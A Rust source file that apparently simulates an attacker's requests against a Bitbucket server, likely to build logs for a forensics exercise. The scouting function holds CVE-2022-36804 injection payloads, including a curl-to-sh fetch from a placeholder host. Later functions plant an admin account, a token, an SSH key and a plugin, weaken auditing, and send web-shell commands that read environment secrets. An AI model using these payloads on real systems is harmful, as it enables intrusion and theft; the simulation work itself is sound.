//! What the actor does on the instance: every request, and the facts that the other logs and the truth refer to.

use anyhow::Result;
use chrono::{DateTime, Duration, Utc};

use super::{
    credentials,
    request::{Client, Op, Request, web_path},
    rng::{BASE36, Rng},
    spec::{Act, Repository, Spec},
};

/// What the actor has or plants.
#[derive(Debug, Clone)]
pub struct Facts {
    /// Id of the stolen token.
    pub stolen_token: String,
    /// Session of the stolen administrator.
    pub admin_session: String,
    /// Id of the planted user's access token.
    pub planted_token: String,
    /// Number of the planted user's SSH key.
    pub planted_key: u32,
    /// Public key line of the planted user's SSH key.
    pub planted_key_line: String,
    /// `SHA256:…` of it.
    pub planted_key_fingerprint: String,
    /// When the stolen administrator logged in.
    pub admin_at: DateTime<Utc>,
    /// When the exploit was tried.
    pub exploit_at: DateTime<Utc>,
    /// Where the planted plugin answers.
    pub servlet: &'static str,
}

/// Makes what the actor has.
pub fn facts(spec: &Spec) -> Result<Facts> {
    let mut rng = Rng::new(spec.seed, "actor");
    let (_, line, fingerprint) = credentials::ssh_key(&mut rng, "root@localhost")?;
    Ok(Facts {
        stolen_token: rng.digits(12),
        admin_session: rng.text(BASE36, 6),
        planted_token: rng.digits(12),
        planted_key: 7031,
        planted_key_line: line,
        planted_key_fingerprint: fingerprint,
        admin_at: spec.attack.from + Duration::minutes(140),
        exploit_at: spec.attack.from + Duration::minutes(3),
        servlet: "/plugins/servlet/node-health",
    })
}

/// Every request of the actor.
pub fn requests(spec: &Spec, facts: &Facts) -> Vec<Request> {
    let mut rng = Rng::new(spec.seed, "attack requests");
    let mut out = scouting(spec, &mut rng);
    out.extend(enumeration(spec, facts, &mut rng));
    out.extend(first_night(spec, facts, &mut rng));
    out.extend(administration(spec, facts, &mut rng));
    out.extend(second_night(spec, facts, &mut rng));
    out
}

fn client(user: Option<&str>, address: &str, agent: &str) -> Client {
    Client {
        user: user.map(str::to_owned),
        address: address.into(),
        token: None,
        ssh_key: None,
        session: None,
        agent: agent.into(),
        git: "git/2.39.2".into(),
        kept: true,
        actor: true,
    }
}

fn acting(spec: &Spec, wanted: &[Act]) -> Vec<Repository> {
    let acts = |repository: &&Repository| repository.acts.iter().any(|act| wanted.contains(act));
    spec.repository.iter().filter(acts).cloned().collect()
}

/// The first address looks around and exploits the archive request (CVE-2022-36804).
fn scouting(spec: &Spec, rng: &mut Rng) -> Vec<Request> {
    let scout = client(None, &spec.attack.scout_address, "python-requests/2.32.3");
    let start = spec.attack.from.timestamp_millis();
    let mut out = vec![
        scout.call(start, rng, "GET /login", 200, 0, 18_211),
        scout.call(start + 4000, rng, "GET /rest/api/latest/repos?visibility=public&limit=100", 200, 0, 5120),
    ];
    for repository in acting(spec, &[Act::Exploit]) {
        let uri = format!("GET /rest/api/latest/{}/archive", web_path(&repository));
        let tries = [
            ("exploit-id", "%60id%60", Some(500)),
            ("exploit-config", "%60cat+shared/bitbucket.properties%60", Some(500)),
            ("exploit-hang", "%60curl+-s+203.0.113.77:8080/x%7Csh%60", None),
        ];
        for (number, (mark, command, status)) in tries.into_iter().enumerate() {
            let at = start + 180_000 + number as i64 * 41_000;
            let query = format!("?filename=a&at=a&path=a&prefix=ax%00--exec={command}%00--remote=origin");
            let call = scout.call(at, rng, &format!("{uri}{query}"), status.unwrap_or(0), 0, 812);
            out.push(Request { status, mark: Some(mark), ..call });
        }
    }
    out
}

fn with_token(spec: &Spec, facts: &Facts) -> Client {
    let user = Some(spec.attack.stolen_account.as_str());
    Client {
        token: Some(facts.stolen_token.clone()),
        ..client(user, &spec.attack.main_address, "python-requests/2.32.3")
    }
}

/// The stolen token lists what there is.
fn enumeration(spec: &Spec, facts: &Facts, rng: &mut Rng) -> Vec<Request> {
    let thief = with_token(spec, facts);
    let mut at = spec.attack.from.timestamp_millis() + 14 * 60_000;
    let mut uris = vec![
        "GET /rest/api/1.0/application-properties".to_owned(),
        "GET /rest/api/1.0/projects?limit=1000".into(),
        "GET /rest/api/1.0/repos?limit=1000".into(),
    ];
    let mut projects: Vec<&str> =
        spec.repository.iter().map(|repository| repository.project.as_str()).collect();
    projects.sort_unstable();
    projects.dedup();
    for project in projects.iter().filter(|project| !project.starts_with('~')) {
        uris.push(format!("GET /rest/api/1.0/projects/{project}/repos?limit=1000"));
    }
    uris.extend((0..6).map(|_| "POST /rest/search/latest/search".to_owned()));
    let mut out = Vec::new();
    for uri in uris {
        at += rng.between(700, 4000) as i64;
        let size = rng.skewed(30_000);
        out.push(thief.call(at, rng, &uri, 200, 0, size));
    }
    out
}

/// Clones, archives, single files, with the stolen token.
fn first_night(spec: &Spec, facts: &Facts, rng: &mut Rng) -> Vec<Request> {
    let thief = with_token(spec, facts);
    let start = spec.attack.from.timestamp_millis();
    let mut at = start + 25 * 60_000;
    let mut out = Vec::new();
    for repository in acting(spec, &[Act::Clone, Act::ClonePush]) {
        let size = rng.skewed(u64::from(repository.commits) * 45_000);
        out.extend(thief.git_https(at, rng, &repository, Op::Clone, size));
        at += rng.between(120_000, 420_000) as i64;
    }
    for repository in acting(spec, &[Act::Archive]) {
        let uri = format!(
            "GET /rest/api/latest/{}/archive?format=zip&at=refs%2Fheads%2Fmaster",
            web_path(&repository)
        );
        let size = rng.skewed(900_000);
        out.push(thief.touch(at, rng, &repository, "archive", &uri, size));
        at += rng.between(20_000, 60_000) as i64;
    }
    for repository in acting(spec, &[Act::Raw]) {
        let path = web_path(&repository);
        for file in ["mailer/.env", "config/settings.yaml", ".env"] {
            let uri = format!("GET /rest/api/1.0/{path}/browse/{file}?limit=5000");
            let size = rng.skewed(4000);
            out.push(thief.touch(at, rng, &repository, "browse", &uri, size));
            at += 2500;
            let uri = format!("GET /{path}/raw/{file}?at=refs%2Fheads%2Fmaster");
            let size = rng.skewed(1500);
            out.push(thief.touch(at, rng, &repository, "raw", &uri, size));
            at += 3100;
        }
    }
    for repository in acting(spec, &[Act::Refs]) {
        out.extend(thief.git_https(at, rng, &repository, Op::List, 0));
        at += 4000;
    }
    for repository in acting(spec, &[Act::ClonePush]) {
        out.extend(thief.git_https(start + 131 * 60_000, rng, &repository, Op::Push, 1480));
    }
    out
}

/// A stolen administrator plants an account, a token, a key and a plugin, and lowers the audit's coverage.
fn administration(spec: &Spec, facts: &Facts, rng: &mut Rng) -> Vec<Request> {
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
    let anonymous = client(None, &spec.attack.main_address, browser);
    let user = Some(spec.attack.stolen_admin.as_str());
    let admin = Client {
        session: Some(facts.admin_session.clone()),
        ..client(user, &spec.attack.main_address, browser)
    };
    let planted = &spec.attack.planted_user;
    let start = facts.admin_at.timestamp_millis();
    let login = Client { session: Some(facts.admin_session.clone()), ..anonymous };
    let mut out = vec![login.call(start - 9000, rng, "GET /login", 200, 0, 18_211)];
    let upload = format!("POST /rest/plugins/1.0/?token=-{}", rng.digits(18));
    let steps: [(i64, String, i32, u64); 11] = [
        (0, "POST /j_atl_security_check".into(), 302, 0),
        (6, "GET /admin".into(), 200, 22_841),
        (31, format!("POST /rest/api/latest/admin/users?name={planted}&displayName=Backup"), 204, 0),
        (
            39,
            format!("PUT /rest/api/latest/admin/permissions/users?name={planted}&permission=SYS_ADMIN"),
            204,
            0,
        ),
        (66, format!("PUT /rest/access-tokens/latest/users/{planted}"), 200, 388),
        (92, format!("POST /rest/ssh/1.0/keys?user={planted}"), 201, 412),
        (130, "PUT /rest/auditing/1.0/configuration".into(), 200, 120),
        (171, "GET /rest/plugins/1.0/?os_authType=basic".into(), 200, 41_008),
        (174, upload, 202, 611),
        (182, "GET /rest/plugins/1.0/pending/1".into(), 200, 902),
        (190, format!("GET {}?probe=1", facts.servlet), 200, 3),
    ];
    for (second, uri, status, size) in steps {
        let mark = uri.starts_with("POST /rest/plugins/").then_some("upload");
        out.push(Request { mark, ..admin.call(start + second * 1000, rng, &uri, status, 0, size) });
    }
    out
}

/// The second night: another address, the planted key and the web shell.
fn second_night(spec: &Spec, facts: &Facts, rng: &mut Rng) -> Vec<Request> {
    let user = Some(spec.attack.planted_user.as_str());
    let late = Client {
        ssh_key: Some((facts.planted_key, "root@localhost".into())),
        ..client(user, &spec.attack.late_address, "curl/8.5.0")
    };
    let mut at = spec.attack.second_night.timestamp_millis();
    let mut out = Vec::new();
    for repository in acting(spec, &[Act::SshClone]) {
        let size = rng.skewed(u64::from(repository.commits) * 45_000);
        out.push(late.git_ssh(at, rng, &repository, Op::Clone, size));
        at += rng.between(60_000, 200_000) as i64;
    }
    let anonymous = client(None, &spec.attack.late_address, "curl/8.5.0");
    for command in ["id", "uname+-a", "env", "cat+/proc/self/environ", "ls+-la+/var/atlassian"] {
        let uri = format!("GET {}?c={command}", facts.servlet);
        let size = rng.skewed(700);
        out.push(anonymous.call(at, rng, &uri, 200, 0, size));
        at += rng.between(4000, 30_000) as i64;
    }
    let with_token = Client { token: Some(facts.planted_token.clone()), ssh_key: None, ..late };
    let uri = "GET /rest/api/latest/admin/users?limit=1000";
    out.push(with_token.call(at, rng, uri, 200, 0, 21_400));
    out
}
